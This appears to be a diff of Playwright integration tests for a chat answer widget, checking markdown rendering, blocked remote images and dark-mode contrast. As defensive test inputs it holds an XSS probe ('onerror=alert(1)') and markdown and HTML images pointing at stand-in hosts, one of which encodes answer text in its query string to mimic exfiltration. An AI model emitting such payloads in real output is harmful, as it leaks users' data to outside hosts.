@@ -20,7 +20,9 @@ from tests.integration.api.browser import SHADOW, Tab, fold_space, launched_chro
 from tests.support.environment import REPO
 
 ORIGIN = "http://widget.test"
-FILES = {"/widget.js": "widget.js", "/widget.css": "widget.css", "/widget/evidence.js": "evidence.js"}
+ARTIFACTS = REPO / "artifacts" / "widget"
+FILES = {"/widget.js": "widget.js", "/widget.css": "widget.css", "/widget/evidence.js": "evidence.js",
+         "/widget/markdown.js": "markdown.js"}
 TYPES = {"js": "text/javascript; charset=utf-8", "css": "text/css; charset=utf-8"}
 PAGE = f'<!doctype html><body><script src="{ORIGIN}/widget.js" data-collection="docs" async></script></body>'
 MARKUP = "<img src=x onerror=alert(1)>"
@@ -200,7 +202,7 @@ def test_each_marker_opens_its_source_on_the_sentence_it_quotes(tab: Tab, fake_a
 
 def test_an_answer_never_loads_a_remote_image(tab: Tab, fake_api: FakeApi) -> None:
     # The server strips such an image (tests/integration/api/test_output_links.py); the widget
-    # must not load one even if an answer carried it: text only, never markdown or HTML.
+    # must not load one even if an answer carried it: markdown draws its alt text, HTML stays text.
     image = "![status](http://tracker.example/pixel.png?d=brass-key)"
     sentence = "The zorblax gadget is calibrated with a brass key."
     requested: list[str] = []
@@ -208,7 +210,8 @@ def test_an_answer_never_loads_a_remote_image(tab: Tab, fake_api: FakeApi) -> No
     final = done(f"{sentence} {image} <img src=http://tracker.example/raw.png>", [], [], mode="generative")
     answer = answer_of(tab, fake_api, ("delta", {"text": f"{sentence} "}), ("delta", {"text": image}),
                        ("done", final))  # fmt: skip
-    assert image in answer.locator(".text").text_content()  # shown as text
+    shown = answer.locator(".text").text_content() or ""
+    assert "status" in shown and "](" not in shown and "<img src=http://tracker.example/raw.png>" in shown
     tab.page.wait_for_timeout(300)  # time for an image request to go out, were there one
     assert not [url for url in requested if "tracker.example" in url], requested
     assert tab.page.evaluate(f"() => {SHADOW}.querySelectorAll('img').length + document.images.length") == 0
@@ -230,3 +233,49 @@ def test_a_low_confidence_answer_is_shown_as_such_with_its_quotes(tab: Tab, fake
     tab.ask("And the key?")
     again = tab.wait_answered()
     assert again.get_attribute("data-confidence") == "high" and again.locator(".badge.low-confidence").count() == 0
+
+
+MARKDOWN = ("3. **Chunk.** Documents are split by `SentenceSplitter` into *small* chunks. [1] - `RAGQA_BATCH` (64): "
+            "texts per call, see [the guide](http://docs.example/guide) ![pixel](http://evil.example/p.png) [1]")
+
+
+def luminance(rgb: str) -> float:
+    channels = [int(x) / 255 for x in rgb[rgb.index("(") + 1:rgb.index(")")].split(",")[:3]]
+    lin = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
+    return 0.2126 * lin[0] + 0.7152 * lin[1] + 0.0722 * lin[2]
+
+
+def contrast(fg: str, bg: str) -> float:
+    a, b = sorted((luminance(fg), luminance(bg)), reverse=True)
+    return (a + 0.05) / (b + 0.05)
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_markdown_is_drawn_as_elements_never_as_html_in_both_schemes(tab: Tab, fake_api: FakeApi,
+                                                                    scheme: str) -> None:
+    tab.page.emulate_media(color_scheme=scheme)
+    sentence = "3. **Chunk.** Documents are split by `SentenceSplitter` into *small* chunks."
+    final = done(MARKDOWN, [citation(1, f"Intro. {sentence} Outro.", sentence)],
+                 [claim(sentence, [1], True)], confidence="low")  # fmt: skip
+    answer = answer_of(tab, fake_api, ("delta", {"text": MARKDOWN}), ("done", final))
+    text = answer.locator(".text")
+    shown = text.text_content() or ""
+    for raw in ("**", "`", "](", "![", "\n- "):
+        assert raw not in shown, (raw, shown)
+    assert text.locator("strong").first.text_content() == "Chunk."
+    assert text.locator("code").count() == 2 and text.locator("em").first.text_content() == "small"
+    assert "the guide" in shown and answer.locator("img").count() == 0 and answer.locator(".text a").count() == 0
+    answer.locator(".chip").first.click()
+    preview = answer.locator(".source-detail")
+    assert "**" not in (preview.text_content() or "") and preview.locator("strong").count() >= 1
+    colors = tab.page.evaluate(f"""() => {{
+      const m = [...{SHADOW}.querySelectorAll('.msg.bot')].pop();
+      const bubble = getComputedStyle(m.querySelector('.bubble'));
+      const badge = getComputedStyle(m.querySelector('.badge.low-confidence'));
+      return [bubble.color, bubble.backgroundColor, badge.color, badge.backgroundColor];
+    }}""")
+    assert contrast(colors[0], colors[1]) >= 4.5 and contrast(colors[2], colors[3]) >= 4.5, colors
+    if scheme == "dark":
+        assert luminance(colors[1]) < 0.05  # a dark bubble, not the light one
+    ARTIFACTS.mkdir(parents=True, exist_ok=True)
+    tab.page.screenshot(path=str(ARTIFACTS / f"widget-markdown-{scheme}.png"))
